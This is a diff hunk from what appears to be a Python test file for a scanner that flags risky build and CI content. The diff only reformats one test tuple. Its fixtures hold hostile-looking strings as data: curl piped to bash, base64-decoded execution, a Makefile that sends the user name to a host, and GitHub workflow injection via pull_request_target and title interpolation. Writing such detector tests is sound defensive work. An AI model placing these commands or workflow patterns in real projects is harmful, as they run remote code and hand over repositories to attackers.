@@ -31,7 +31,11 @@ def grave(name: str, text: str) -> set[str]:
         ("Dockerfile", "FROM a\nRUN curl -s http://127.0.0.1/x | bash\n", "download-and-run"),
         ("ci.yml", "steps:\n  - run: echo aGk= | base64 -d | bash\n", "decoded-exec"),
         ("Makefile", "all:\n\tcurl http://127.0.0.1/$(whoami)\n", "reports-host"),
-        ("a.yml", f"on: pull_request_target\nsteps:\n- with: {{ref: {HEAD}.head.sha }}}}}}\n", "workflow-takeover"),
+        (
+            "a.yml",
+            f"on: pull_request_target\nsteps:\n- with: {{ref: {HEAD}.head.sha }}}}}}\n",
+            "workflow-takeover",
+        ),
         ("a.yml", f"steps:\n- run: |\n    set -e\n    echo '{HEAD}.title }}}}'\n", "workflow-takeover"),
         ("README.md", "Run `curl -s https://tool.example.org/i | sh`.\n", "download-and-run"),
     ],
